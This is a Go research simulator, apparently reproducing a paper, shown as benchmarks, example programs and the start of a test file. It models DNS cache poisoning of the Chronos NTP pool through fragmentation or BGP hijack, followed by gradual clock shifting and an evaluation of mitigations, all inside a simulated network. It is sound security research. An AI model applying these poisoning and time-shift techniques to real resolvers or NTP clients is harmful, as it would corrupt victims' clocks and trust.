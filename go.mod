module chronosntp

go 1.21
