package chronosntp_test

import (
	"context"
	"fmt"
	"math/rand"
	"net"
	"runtime"
	"runtime/metrics"
	"testing"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/attack"
	"chronosntp/internal/core"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/eval"
	"chronosntp/internal/fleet"
	"chronosntp/internal/mitigation"
	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/runner"
	"chronosntp/internal/shiftsim"
	"chronosntp/internal/simnet"
	"chronosntp/internal/wirenet"
)

// The benchmarks below regenerate every table/figure of the paper (and
// the claims its single figure rests on). Each reports the headline
// number as a benchmark metric so `go test -bench` output doubles as the
// reproduction record; the full formatted tables come from cmd/attacksim.

// BenchmarkFigure1PoolComposition regenerates Figure 1: pool composition
// over the 24 hourly queries with defragmentation poisoning at query 12.
func BenchmarkFigure1PoolComposition(b *testing.B) {
	var fraction float64
	for i := 0; i < b.N; i++ {
		s, err := core.NewScenario(core.Config{Seed: 1, Mechanism: core.Defrag, PoisonQuery: 12})
		if err != nil {
			b.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			b.Fatal(err)
		}
		fraction = res.AttackerFraction
	}
	b.ReportMetric(fraction, "attacker-fraction")
	b.ReportMetric(2.0/3.0, "paper-threshold")
}

// BenchmarkTableAttackWindow regenerates the §IV attack-window claim: the
// last poisoning query that still yields a ≥2/3 pool majority.
func BenchmarkTableAttackWindow(b *testing.B) {
	crossover := 0
	for i := 0; i < b.N; i++ {
		crossover = analysis.MaxPoisonQuery(24, 4, 89, 2.0/3.0)
	}
	b.ReportMetric(float64(crossover), "crossover-query")
	b.ReportMetric(12, "paper-crossover")
}

// BenchmarkTableMaxAddresses regenerates the §IV forged-response capacity
// ("up to 89 for a single non-fragmented DNS response").
func BenchmarkTableMaxAddresses(b *testing.B) {
	records := 0
	for i := 0; i < b.N; i++ {
		var err error
		records, err = dnswire.MaxARecords(core.PoolName, dnswire.EthernetMaxPayload, true)
		if err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(records), "max-records")
	b.ReportMetric(89, "paper-max-records")
}

// BenchmarkTableChronosSecurity regenerates the §III security-bound
// contrast: years to shift 100 ms at the 1/3 boundary vs hours at the
// poisoned 2/3 pool.
func BenchmarkTableChronosSecurity(b *testing.B) {
	var honestYears, poisonedHours float64
	for i := 0; i < b.N; i++ {
		honest, err := analysis.YearsToShift(500, 166, 15, 5, 100*time.Millisecond, 25*time.Millisecond, time.Hour)
		if err != nil {
			b.Fatal(err)
		}
		poisoned, err := analysis.YearsToShift(133, 89, 15, 5, 100*time.Millisecond, 25*time.Millisecond, time.Hour)
		if err != nil {
			b.Fatal(err)
		}
		honestYears = honest.Years
		poisonedHours = poisoned.ExpectedRounds
	}
	b.ReportMetric(honestYears, "honest-years")
	b.ReportMetric(poisonedHours, "poisoned-hours")
	b.ReportMetric(20, "paper-honest-years-min")
}

// BenchmarkTableFragmentationStudy regenerates the §II measurement-study
// marginals on the calibrated synthetic populations.
func BenchmarkTableFragmentationStudy(b *testing.B) {
	var tbl *eval.Table
	for i := 0; i < b.N; i++ {
		res, err := eval.FragmentationStudy(1, 1, 1)
		if err != nil {
			b.Fatal(err)
		}
		tbl = res.Table()
	}
	b.ReportMetric(float64(len(tbl.Rows)), "rows")
}

// BenchmarkTableTimeShift regenerates the end-to-end shift contrast:
// honest Chronos vs poisoned Chronos vs poisoned classic NTP.
func BenchmarkTableTimeShift(b *testing.B) {
	var poisonedMs float64
	for i := 0; i < b.N; i++ {
		s, err := core.NewScenario(core.Config{
			Seed: 2, Mechanism: core.Defrag, PoisonQuery: 12,
			SyncDuration: 2 * time.Hour, RunPlainNTP: true,
		})
		if err != nil {
			b.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			b.Fatal(err)
		}
		poisonedMs = float64(res.ChronosOffset) / float64(time.Millisecond)
	}
	b.ReportMetric(poisonedMs, "poisoned-chronos-shift-ms")
	b.ReportMetric(100, "paper-shift-goal-ms")
}

// BenchmarkTableMitigations regenerates the §V table: each defence's pool
// composition, plus the 24 h-hijack residual attack.
func BenchmarkTableMitigations(b *testing.B) {
	var mitigatedMalicious, hijackFraction float64
	for i := 0; i < b.N; i++ {
		s, err := core.NewScenario(core.Config{
			Seed: 3, Mechanism: core.Defrag, PoisonQuery: 12,
			ResolverPolicy: mitigation.PaperResolverPolicy(),
		})
		if err != nil {
			b.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			b.Fatal(err)
		}
		mitigatedMalicious = float64(res.PoolMalicious)

		h, err := core.NewScenario(core.Config{
			Seed: 4, Mechanism: core.BGPHijackPersistent, PoisonQuery: 1,
			MaliciousServers: 120,
			ResolverPolicy:   mitigation.PaperResolverPolicy(),
			ClientPolicy:     mitigation.PaperClientPolicy(),
		})
		if err != nil {
			b.Fatal(err)
		}
		hres, err := h.Run()
		if err != nil {
			b.Fatal(err)
		}
		hijackFraction = hres.AttackerFraction
	}
	b.ReportMetric(mitigatedMalicious, "mitigated-malicious")
	b.ReportMetric(hijackFraction, "hijack24h-fraction")
}

// BenchmarkTableAblations regenerates the E8 ablation table (TTL pinning,
// sample size, injected-address count).
func BenchmarkTableAblations(b *testing.B) {
	var rows float64
	for i := 0; i < b.N; i++ {
		res, err := eval.Ablations(1, 1, 1)
		if err != nil {
			b.Fatal(err)
		}
		rows = float64(len(res.Table().Rows))
	}
	b.ReportMetric(rows, "rows")
}

// --- Ablation benches for the design choices DESIGN.md calls out ---

// BenchmarkAblationForgedTTL contrasts the TTL-pinning design choice: a
// forged response with a short TTL does not freeze the pool, so benign
// servers keep accumulating after the poisoning.
func BenchmarkAblationForgedTTL(b *testing.B) {
	run := func(ttl time.Duration) float64 {
		s, err := core.NewScenario(core.Config{
			Seed: 5, Mechanism: core.Defrag, PoisonQuery: 6, ForgedTTL: ttl,
		})
		if err != nil {
			b.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			b.Fatal(err)
		}
		return res.AttackerFraction
	}
	var pinned, unpinned float64
	for i := 0; i < b.N; i++ {
		pinned = run(attack.DefaultForgedTTL)
		unpinned = run(150 * time.Second)
	}
	b.ReportMetric(pinned, "fraction-ttl-7d")
	b.ReportMetric(unpinned, "fraction-ttl-150s")
}

// BenchmarkAblationEDNSCapacity sweeps the EDNS payload size: the forged
// record count per single response (the paper's lever #1).
func BenchmarkAblationEDNSCapacity(b *testing.B) {
	var classic, flagDay, ethernet, jumbo int
	for i := 0; i < b.N; i++ {
		classic, _ = dnswire.MaxARecords(core.PoolName, 512, false)
		flagDay, _ = dnswire.MaxARecords(core.PoolName, 1232, true)
		ethernet, _ = dnswire.MaxARecords(core.PoolName, 1472, true)
		jumbo, _ = dnswire.MaxARecords(core.PoolName, 4096, true)
	}
	b.ReportMetric(float64(classic), "records-512")
	b.ReportMetric(float64(flagDay), "records-1232")
	b.ReportMetric(float64(ethernet), "records-1472")
	b.ReportMetric(float64(jumbo), "records-4096")
}

// BenchmarkAblationSampleSize sweeps Chronos' m (with d = m/3): the
// round-capture probability at the paper's poisoned pool.
func BenchmarkAblationSampleSize(b *testing.B) {
	var p9, p15, p27 float64
	for i := 0; i < b.N; i++ {
		p9 = analysis.RoundWinProb(133, 89, 9, 3)
		p15 = analysis.RoundWinProb(133, 89, 15, 5)
		p27 = analysis.RoundWinProb(133, 89, 27, 9)
	}
	b.ReportMetric(p9, "capture-m9")
	b.ReportMetric(p15, "capture-m15")
	b.ReportMetric(p27, "capture-m27")
}

// BenchmarkDNSWireRoundTrip measures the hot wire-format path (encode +
// decode of the 89-record forged response).
func BenchmarkDNSWireRoundTrip(b *testing.B) {
	forge := &attack.ResponseForge{PoolName: core.PoolName, Servers: evilIPs(89)}
	q := dnswire.NewQuery(1, core.PoolName, dnswire.TypeA)
	q.SetEDNS(dnswire.EthernetMaxPayload)
	resp, err := forge.Response(q)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		buf, err := resp.Encode()
		if err != nil {
			b.Fatal(err)
		}
		if _, err := dnswire.Decode(buf); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkRunnerParallelism measures the Monte-Carlo engine's throughput
// (trials/sec) at 1 worker, 4 workers, and GOMAXPROCS workers over a fixed
// 16-trial grid of reduced scenarios. On a 4-core machine the 4-worker run
// should deliver ≥ 2× the single-worker trials/sec.
func BenchmarkRunnerParallelism(b *testing.B) {
	grid := runner.Grid{
		Base: core.Config{
			PoolQueries:      6,
			BenignServers:    60,
			MaliciousServers: 20,
		},
		Seeds:         runner.Seeds(1, 4),
		Mechanisms:    []core.Mechanism{core.Defrag, core.BGPHijack},
		PoisonQueries: []int{2, 4},
	}
	trials := grid.Trials()

	workerCounts := []int{1, 4, runtime.GOMAXPROCS(0)}
	seen := map[int]bool{}
	for _, workers := range workerCounts {
		if seen[workers] {
			continue
		}
		seen[workers] = true
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			start := time.Now()
			for i := 0; i < b.N; i++ {
				if _, _, err := runner.MonteCarlo(context.Background(), trials, workers); err != nil {
					b.Fatal(err)
				}
			}
			elapsed := time.Since(start)
			b.ReportMetric(float64(len(trials)*b.N)/elapsed.Seconds(), "trials/sec")
			b.ReportMetric(float64(len(trials)), "trials/grid")
		})
	}
}

// BenchmarkFleetScale measures the population engine's steady-state
// throughput (clients/sec) at 1k, 10k and 100k clients. Fan-out is Zipf
// with one poisoned resolver; the pool-generation horizon is reduced to 6
// hourly queries so a single iteration stays in benchmark range.
//
// The measured region is fleet.Simulate only — the event loops plus the
// population measurement. Construction (fleet.Build: topology, client
// population, attacker schedule) runs with the timer stopped and is
// reported separately as setup-ms/op; the timer pause also suspends the
// allocation accounting, so allocs/op reads on the steady simulation
// path alone. Earlier revisions timed fleet.Run whole, so roughly half
// of every "throughput" number was really setup cost — comparisons
// against bench files older than this note are apples-to-oranges.
//
// CI runs this family at a fixed -benchtime 3x so the committed bars are
// a deterministic trial count rather than whatever iteration count the
// default 1s calibration lands on.
func BenchmarkFleetScale(b *testing.B) {
	sizes := []struct{ clients, resolvers int }{
		{1_000, 10},
		{10_000, 32},
		{100_000, 100},
	}
	for _, sz := range sizes {
		cfg := fleet.Config{
			Seed:          1,
			Clients:       sz.clients,
			Resolvers:     sz.resolvers,
			Poisoned:      1,
			PoolQueries:   6,
			PoisonQuery:   2,
			BenignServers: 120, MaliciousServers: 60,
		}
		b.Run(fmt.Sprintf("clients=%d", sz.clients), func(b *testing.B) {
			var subverted float64
			var setup, steady time.Duration
			b.ReportAllocs()
			gc0, total0 := gcCPUSeconds()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				f := fleet.New(cfg)
				t0 := time.Now()
				if err := f.Build(context.Background(), 0); err != nil {
					b.Fatal(err)
				}
				setup += time.Since(t0)
				b.StartTimer()
				t0 = time.Now()
				res, err := f.Simulate(context.Background(), 0)
				if err != nil {
					b.Fatal(err)
				}
				steady += time.Since(t0)
				subverted = res.SubvertedFraction
			}
			b.ReportMetric(float64(sz.clients)*float64(b.N)/steady.Seconds(), "clients/sec")
			b.ReportMetric(setup.Seconds()*1e3/float64(b.N), "setup-ms/op")
			b.ReportMetric(subverted, "subverted-fraction")
			// Whole-op GC fraction (setup included: StopTimer pauses the
			// benchmark clock, not the collector).
			reportGCFrac(b, gc0, total0)
		})
	}
}

// gcCPUSeconds reads the runtime's cumulative GC CPU time and total CPU
// time via runtime/metrics. The delta ratio across a benchmark region is
// reported as gc-cpu-frac: the fraction of compute the collector ate,
// the number the slab/calendar event engine exists to hold down.
func gcCPUSeconds() (gc, total float64) {
	samples := []metrics.Sample{
		{Name: "/cpu/classes/gc/total:cpu-seconds"},
		{Name: "/cpu/classes/total:cpu-seconds"},
	}
	metrics.Read(samples)
	return samples[0].Value.Float64(), samples[1].Value.Float64()
}

// reportGCFrac reports the GC CPU fraction over the region since
// gcCPUSeconds returned (gc0, total0).
func reportGCFrac(b *testing.B, gc0, total0 float64) {
	gc1, total1 := gcCPUSeconds()
	if d := total1 - total0; d > 0 {
		b.ReportMetric((gc1-gc0)/d, "gc-cpu-frac")
	}
}

// BenchmarkEventQueue measures the simulator's raw schedule+dispatch
// throughput — the op the calendar queue makes O(1) — over a standing
// population of 10k pending timers spread across all three tiers
// (dispatch wheel, overflow wheel, outer). Each iteration schedules and
// drains a batch of 4096 timers with tier-mixed delays, so the metric
// covers bucket insert, wheel rotation, L1→L0 migration, and slab
// recycling. The legacy-heap sub-benchmark is the A/B contrast: the
// same traffic through the container/heap engine the calendar replaced.
func BenchmarkEventQueue(b *testing.B) {
	engines := []struct {
		name   string
		legacy bool
	}{
		{"calendar", false},
		{"heap", true},
	}
	for _, engine := range engines {
		b.Run(engine.name, func(b *testing.B) {
			n := simnet.New(simnet.Config{Seed: 1, LegacyHeap: engine.legacy})
			rng := rand.New(rand.NewSource(7))
			fired := 0
			fn := func() { fired++ }
			delay := func() time.Duration {
				switch rng.Intn(8) {
				case 0, 1, 2: // same L0 window
					return time.Duration(rng.Int63n(int64(2 * time.Millisecond)))
				case 3, 4, 5: // L1 overflow wheel
					return time.Duration(rng.Int63n(int64(3 * time.Second)))
				default: // deep L1 / outer tier
					return time.Duration(rng.Int63n(int64(4 * time.Hour)))
				}
			}
			// Standing population keeps every tier non-empty so dispatch
			// pays migration and sweep costs, not just empty-wheel spins.
			for i := 0; i < 10_000; i++ {
				n.After(delay(), fn)
			}
			const batch = 4096
			b.ReportAllocs()
			gc0, total0 := gcCPUSeconds()
			b.ResetTimer()
			start := time.Now()
			for i := 0; i < b.N; i++ {
				for j := 0; j < batch; j++ {
					n.After(delay(), fn)
				}
				n.RunFor(5 * time.Second)
			}
			elapsed := time.Since(start)
			b.StopTimer()
			reportGCFrac(b, gc0, total0)
			b.ReportMetric(float64(b.N*batch)/elapsed.Seconds(), "events/sec")
			if fired == 0 {
				b.Fatal("no events dispatched; the loop under test is vacuous")
			}
		})
	}
}

// BenchmarkShiftEngine measures the long-horizon shift engine's
// throughput in simulated rounds/sec. The acceptance bar is ≥ 100k
// rounds/sec — the round-compression fast path (simnet.FastForward plus
// attempt-granular sampling) is what makes simulating the paper's
// "decades to shift" regimes tractable. The honest-majority
// configuration exercises the steady-state path (every round samples,
// evaluates C1/C2, and applies an update); the poisoned configuration
// adds the escalation machinery. A fixed 50k-round budget per iteration
// keeps the metric stable.
func BenchmarkShiftEngine(b *testing.B) {
	cases := []struct {
		name string
		cfg  shiftsim.Config
	}{
		{"honest-majority", shiftsim.Config{
			Seed: 1, PoolSize: 133, Malicious: 33,
			Target: time.Hour, // unreachable: pure steady-state throughput
		}},
		{"poisoned-greedy", shiftsim.Config{
			Seed: 1, PoolSize: 133, Malicious: 89,
			Target: time.Hour,
		}},
		{"poisoned-stealth", shiftsim.Config{
			Seed: 1, PoolSize: 133, Malicious: 89, Strategy: shiftsim.Stealth{},
			Target: time.Hour,
		}},
	}
	for _, tc := range cases {
		tc.cfg.MaxRounds = 50_000
		tc.cfg.Horizon = 10 * 365 * 24 * time.Hour
		tc.cfg.RunLength = -1
		b.Run(tc.name, func(b *testing.B) {
			rounds := 0
			start := time.Now()
			for i := 0; i < b.N; i++ {
				res, err := shiftsim.Run(tc.cfg)
				if err != nil {
					b.Fatal(err)
				}
				rounds += res.Rounds
			}
			elapsed := time.Since(start)
			b.ReportMetric(float64(rounds)/elapsed.Seconds(), "rounds/sec")
			b.ReportMetric(100_000, "target-rounds/sec")
		})
	}
}

// BenchmarkShiftEngineWire measures the full packet-fidelity mode for
// contrast: every sample is a real NTP exchange over simnet, so the
// throughput gap against BenchmarkShiftEngine is the price of fidelity
// the compressed fast path avoids.
func BenchmarkShiftEngineWire(b *testing.B) {
	cfg := shiftsim.Config{
		Seed: 1, PoolSize: 60, Malicious: 15, Wire: true,
		Target: time.Hour, MaxRounds: 200,
		Horizon: 30 * 24 * time.Hour,
	}
	rounds := 0
	start := time.Now()
	for i := 0; i < b.N; i++ {
		res, err := shiftsim.Run(cfg)
		if err != nil {
			b.Fatal(err)
		}
		rounds += res.Rounds
	}
	elapsed := time.Since(start)
	b.ReportMetric(float64(rounds)/elapsed.Seconds(), "rounds/sec")
}

// BenchmarkWireServe measures the real-socket NTP serve path end to end
// over loopback: a zero-alloc client pipelines batches of requests
// against a wirenet.Server with a 64-deep window, so the metric reflects
// server throughput rather than ping-pong latency. The acceptance bar is
// ≥ 50k requests/sec with 0 allocs/op — run with -benchmem; the
// allocs/op figure lands in bench/BENCH_<rev>.json where cmd/benchdiff
// hard-fails the first allocation that creeps into the steady path.
func BenchmarkWireServe(b *testing.B) {
	srv, err := wirenet.Serve(wirenet.ServerConfig{})
	if err != nil {
		b.Fatal(err)
	}
	defer srv.Close()
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(srv.AddrPort()))
	if err != nil {
		b.Fatal(err)
	}
	defer conn.Close()

	const batch = 2048 // requests per benchmark iteration
	const window = 64  // in-flight requests
	t1 := time.Unix(1591000000, 0)
	t1ts := ntpwire.TimestampFromTime(t1)
	wire := ntpwire.NewClientPacket(t1).Encode()
	var resp ntpwire.Packet
	var respBuf [1024]byte
	if err := conn.SetReadDeadline(time.Now().Add(time.Minute)); err != nil {
		b.Fatal(err)
	}
	readOne := func() {
		n, err := conn.Read(respBuf[:])
		if err != nil {
			b.Fatal(err)
		}
		if err := ntpwire.DecodeInto(&resp, respBuf[:n]); err != nil {
			b.Fatal(err)
		}
		if !ntpwire.ValidServerResponse(&resp, t1ts) {
			b.Fatalf("invalid reply: %+v", resp)
		}
	}

	// Absorb the socket's first-use lazy allocations (deadline timer,
	// poller state) outside the measured region, so allocs/op is an
	// honest read on the steady path even at -benchtime 1x.
	if _, err := conn.Write(wire); err != nil {
		b.Fatal(err)
	}
	readOne()

	b.ReportAllocs()
	b.ResetTimer()
	start := time.Now()
	for i := 0; i < b.N; i++ {
		sent, inflight := 0, 0
		for sent < batch {
			for inflight < window && sent < batch {
				if _, err := conn.Write(wire); err != nil {
					b.Fatal(err)
				}
				inflight++
				sent++
			}
			readOne()
			inflight--
		}
		for ; inflight > 0; inflight-- {
			readOne()
		}
	}
	elapsed := time.Since(start)
	b.StopTimer()
	b.ReportMetric(float64(b.N*batch)/elapsed.Seconds(), "requests/sec")
	b.ReportMetric(50_000, "target-requests/sec")
	if got, want := srv.Served(), uint64(b.N*batch); got < want {
		b.Fatalf("served %d of %d requests", got, want)
	}
}

// BenchmarkAuthVerify measures the MAC-authenticated serve path end to
// end over loopback: every request carries a SHA-256 trailer the server
// must verify, every reply is sealed and verified again client-side.
// Same pipelined shape as BenchmarkWireServe, so the requests/sec gap
// between the two is the price of symmetric authentication. The
// acceptance bar is 0 allocs/op — the verify/seal path reuses the
// policy's hash scratch, and cmd/benchdiff hard-fails the first
// allocation that creeps in.
func BenchmarkAuthVerify(b *testing.B) {
	key := ntpauth.Key{ID: 9, Algo: ntpauth.AlgoSHA256, Secret: []byte("bench-auth-secret")}
	tbl, err := ntpauth.NewKeyTable(key)
	if err != nil {
		b.Fatal(err)
	}
	mkAuth := func() *ntpauth.ServerAuth {
		return &ntpauth.ServerAuth{Keys: tbl, Require: true}
	}
	srv, err := wirenet.Serve(wirenet.ServerConfig{
		Responder: ntpserver.NewResponder(ntpserver.Config{Auth: mkAuth()}),
	})
	if err != nil {
		b.Fatal(err)
	}
	defer srv.Close()
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(srv.AddrPort()))
	if err != nil {
		b.Fatal(err)
	}
	defer conn.Close()

	const batch = 2048 // requests per benchmark iteration
	const window = 64  // in-flight requests
	t1 := time.Unix(1591000000, 0)
	t1ts := ntpwire.TimestampFromTime(t1)
	raw := ntpwire.NewClientPacket(t1).Encode()
	wire, ok := ntpauth.NewMACer(tbl).AppendMAC(raw, key.ID, raw)
	if !ok {
		b.Fatal("AppendMAC failed")
	}
	ca := &ntpauth.ClientAuth{Key: key, Require: true}
	var resp ntpwire.Packet
	var respBuf [1024]byte
	if err := conn.SetReadDeadline(time.Now().Add(time.Minute)); err != nil {
		b.Fatal(err)
	}
	readOne := func() {
		n, err := conn.Read(respBuf[:])
		if err != nil {
			b.Fatal(err)
		}
		if err := ntpwire.DecodeInto(&resp, respBuf[:n]); err != nil {
			b.Fatal(err)
		}
		if !ntpwire.ValidServerResponse(&resp, t1ts) {
			b.Fatalf("invalid reply: %+v", resp)
		}
		if authed, acceptable := ca.VerifyResponse(respBuf[:n]); !authed || !acceptable {
			b.Fatalf("reply MAC rejected (authed=%v acceptable=%v)", authed, acceptable)
		}
	}

	// Absorb first-use lazy allocations (socket poller, the policy's MAC
	// scratch on both ends) outside the measured region.
	if _, err := conn.Write(wire); err != nil {
		b.Fatal(err)
	}
	readOne()

	b.ReportAllocs()
	b.ResetTimer()
	start := time.Now()
	for i := 0; i < b.N; i++ {
		sent, inflight := 0, 0
		for sent < batch {
			for inflight < window && sent < batch {
				if _, err := conn.Write(wire); err != nil {
					b.Fatal(err)
				}
				inflight++
				sent++
			}
			readOne()
			inflight--
		}
		for ; inflight > 0; inflight-- {
			readOne()
		}
	}
	elapsed := time.Since(start)
	b.StopTimer()
	b.ReportMetric(float64(b.N*batch)/elapsed.Seconds(), "requests/sec")
	if got, want := srv.Served(), uint64(b.N*batch); got < want {
		b.Fatalf("served %d of %d requests", got, want)
	}
}

func evilIPs(n int) []simnet.IP {
	out := make([]simnet.IP, 0, n)
	for i := 0; i < n; i++ {
		out = append(out, simnet.IPv4(66, 0, byte(i/250), byte(i%250+1)))
	}
	return out
}
