// Poisoned pool: the paper's Figure 1 end to end. An off-path attacker
// forces fragmentation of the root referral, plants a checksum-valid
// spoofed tail fragment that rewrites the ntp.org glue, redirects the
// victim resolver to its own nameserver, and answers the 12th of Chronos'
// 24 hourly pool queries with 89 malicious servers pinned in cache by a
// 7-day TTL. The pool freezes at 44 benign + 89 malicious — a ≥2/3
// attacker majority.
package main

import (
	"fmt"
	"os"

	"chronosntp/internal/core"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "poisoned_pool:", err)
		os.Exit(1)
	}
}

func run() error {
	scenario, err := core.NewScenario(core.Config{
		Seed:        7,
		Mechanism:   core.Defrag,
		PoisonQuery: 12,
	})
	if err != nil {
		return err
	}
	res, err := scenario.Run()
	if err != nil {
		return err
	}
	fmt.Println("pool composition per pool-generation query (Figure 1):")
	for _, q := range res.PerQuery {
		bar := ""
		for i := 0; i < q.Benign; i += 4 {
			bar += "b"
		}
		for i := 0; i < q.Malicious; i += 4 {
			bar += "M"
		}
		marker := ""
		if q.Query == 12 {
			marker = " <- poisoning (89 records, TTL 7d)"
		}
		fmt.Printf("  q%02d |%-34s| %2db/%2dM (%.1f%%)%s\n",
			q.Query, bar, q.Benign, q.Malicious, 100*q.Fraction(), marker)
	}
	fmt.Printf("\nfinal pool: %d benign + %d malicious, attacker fraction %.3f (2/3 = 0.667)\n",
		res.PoolBenign, res.PoolMalicious, res.AttackerFraction)
	fmt.Printf("attack chain planted: %v, mechanism: %s\n", res.PoisonPlanted, res.Mechanism)
	return nil
}
