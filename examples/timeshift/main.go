// Timeshift: the consequence of the poisoned pool. After the Figure-1
// attack, the malicious supermajority walks the Chronos clock away with
// per-round steps below the client's acceptance bound, while a classic
// 4-server NTP client bootstrapped from the same poisoned resolver is
// dragged along too. An honest-pool Chronos run is shown for contrast.
package main

import (
	"fmt"
	"os"
	"time"

	"chronosntp/internal/core"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "timeshift:", err)
		os.Exit(1)
	}
}

func run() error {
	const syncPhase = 2 * time.Hour

	honest, err := core.NewScenario(core.Config{Seed: 11, SyncDuration: syncPhase})
	if err != nil {
		return err
	}
	hres, err := honest.Run()
	if err != nil {
		return err
	}

	poisoned, err := core.NewScenario(core.Config{
		Seed: 12, Mechanism: core.Defrag, PoisonQuery: 12,
		SyncDuration: syncPhase, RunPlainNTP: true,
	})
	if err != nil {
		return err
	}
	pres, err := poisoned.Run()
	if err != nil {
		return err
	}

	fmt.Printf("attack phase: %v, adaptive below-threshold shift strategy\n\n", syncPhase)
	fmt.Printf("%-28s %-32s %s\n", "client", "pool", "clock error vs true time")
	fmt.Printf("%-28s %-32s %v\n", "chronos", "honest (96 benign)", hres.ChronosOffset)
	fmt.Printf("%-28s %-32s %v\n", "chronos", "poisoned (44 benign + 89 evil)", pres.ChronosOffset)
	fmt.Printf("%-28s %-32s %v\n", "classic ntp (4 servers)", "poisoned (same resolver)", pres.PlainOffset)
	fmt.Printf("\npaper's goal was a 100ms shift; Chronos' proof promised ~20 years of attacker effort.\n")
	fmt.Printf("with the poisoned pool it took %v of virtual time.\n", syncPhase)
	return nil
}
