// Quickstart: build a simulated internet, run a Chronos client through
// its 24-hour DNS pool generation against an honest pool.ntp.org, then
// watch it keep a drifting clock synchronised.
package main

import (
	"fmt"
	"os"
	"time"

	"chronosntp/internal/core"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "quickstart:", err)
		os.Exit(1)
	}
}

func run() error {
	scenario, err := core.NewScenario(core.Config{
		Seed:         42,
		SyncDuration: time.Hour,
	})
	if err != nil {
		return err
	}
	fmt.Println("running 24h of pool generation + 1h of synchronisation (virtual time)...")
	res, err := scenario.Run()
	if err != nil {
		return err
	}
	fmt.Printf("pool: %d servers, all benign = %v\n", res.PoolSize, res.PoolMalicious == 0)
	fmt.Printf("chronos clock error after sync: %v (peak %v)\n", res.ChronosOffset, res.ChronosMaxOffset)
	fmt.Printf("rounds=%d updates=%d panics=%d\n",
		res.ChronosStats.Rounds, res.ChronosStats.Updates, res.ChronosStats.Panics)
	return nil
}
