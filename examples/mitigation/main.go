// Mitigation: the §V countermeasures and their limits. The 4-address +
// TTL caps stop the single-shot poisoning; pool generation through three
// resolvers with majority voting survives one poisoned resolver; but an
// attacker who hijacks the DNS path for the whole 24-hour generation
// window defeats everything with policy-compliant responses.
package main

import (
	"fmt"
	"os"

	"chronosntp/internal/core"
	"chronosntp/internal/mitigation"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "mitigation:", err)
		os.Exit(1)
	}
}

func run() error {
	cases := []struct {
		name string
		cfg  core.Config
	}{
		{"no defence", core.Config{Seed: 21, Mechanism: core.Defrag, PoisonQuery: 12}},
		{"resolver policy (≤4 addrs, TTL ≤24h)", core.Config{
			Seed: 22, Mechanism: core.Defrag, PoisonQuery: 12,
			ResolverPolicy: mitigation.PaperResolverPolicy(),
		}},
		{"client policy (≤4 addrs, TTL ≤24h)", core.Config{
			Seed: 23, Mechanism: core.Defrag, PoisonQuery: 12,
			ClientPolicy: mitigation.PaperClientPolicy(),
		}},
		{"3-resolver consensus", core.Config{
			Seed: 24, Mechanism: core.Defrag, PoisonQuery: 12, Consensus: 3,
		}},
		{"everything vs 24h BGP hijack", core.Config{
			Seed: 25, Mechanism: core.BGPHijackPersistent, PoisonQuery: 1,
			MaliciousServers: 120,
			ResolverPolicy:   mitigation.PaperResolverPolicy(),
			ClientPolicy:     mitigation.PaperClientPolicy(),
		}},
	}
	fmt.Printf("%-40s %-18s %7s %9s %10s\n", "defence", "mechanism", "benign", "malicious", "fraction")
	for _, c := range cases {
		s, err := core.NewScenario(c.cfg)
		if err != nil {
			return err
		}
		res, err := s.Run()
		if err != nil {
			return err
		}
		fmt.Printf("%-40s %-18s %7d %9d %10.3f\n",
			c.name, res.Mechanism, res.PoolBenign, res.PoolMalicious, res.AttackerFraction)
	}
	fmt.Println("\nthe last row is the paper's conclusion: the dependency on insecure DNS remains.")
	return nil
}
