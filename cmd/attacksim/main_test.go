package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestParseSweepRejectsUnknownAxis(t *testing.T) {
	for _, dims := range []string{"mechansim", "poisonquery,typo", "fleet"} {
		_, _, err := parseSweep(dims, 1, 1)
		if err == nil {
			t.Fatalf("parseSweep(%q) accepted an unknown axis", dims)
		}
		for _, axis := range []string{"mechanism", "poisonquery", "mitigation"} {
			if !strings.Contains(err.Error(), axis) {
				t.Fatalf("parseSweep(%q) error %q does not list valid axis %q", dims, err, axis)
			}
		}
	}
}

func TestParseSweepRejectsEmpty(t *testing.T) {
	for _, dims := range []string{"", " , ,"} {
		if _, _, err := parseSweep(dims, 1, 1); err == nil {
			t.Fatalf("parseSweep(%q) accepted an empty axis list", dims)
		}
	}
}

func TestParseSweepExpandsAxes(t *testing.T) {
	grid, normalized, err := parseSweep(" mechanism , poisonquery,mitigation", 3, 2)
	if err != nil {
		t.Fatal(err)
	}
	if len(grid.Mechanisms) != 4 || len(grid.PoisonQueries) != 24 || len(grid.Toggles) == 0 {
		t.Fatalf("axes not expanded: %d mechanisms, %d queries, %d toggles",
			len(grid.Mechanisms), len(grid.PoisonQueries), len(grid.Toggles))
	}
	if len(grid.Seeds) != 2 || grid.Seeds[0] != 3 {
		t.Fatalf("seeds not threaded: %v", grid.Seeds)
	}
	if normalized != "mechanism,poisonquery,mitigation" {
		t.Fatalf("dims not normalized for fingerprinting: %q", normalized)
	}
}

func TestRunRejectsBadFlags(t *testing.T) {
	if err := run(&strings.Builder{}, []string{"-trials", "0"}); err == nil {
		t.Fatal("accepted -trials 0")
	}
	if err := run(&strings.Builder{}, []string{"-fleet", "-clients", "-5"}); err == nil {
		t.Fatal("accepted negative -clients")
	}
	if err := run(&strings.Builder{}, []string{"-fleet", "-trials", "4"}); err == nil || !strings.Contains(err.Error(), "E9") {
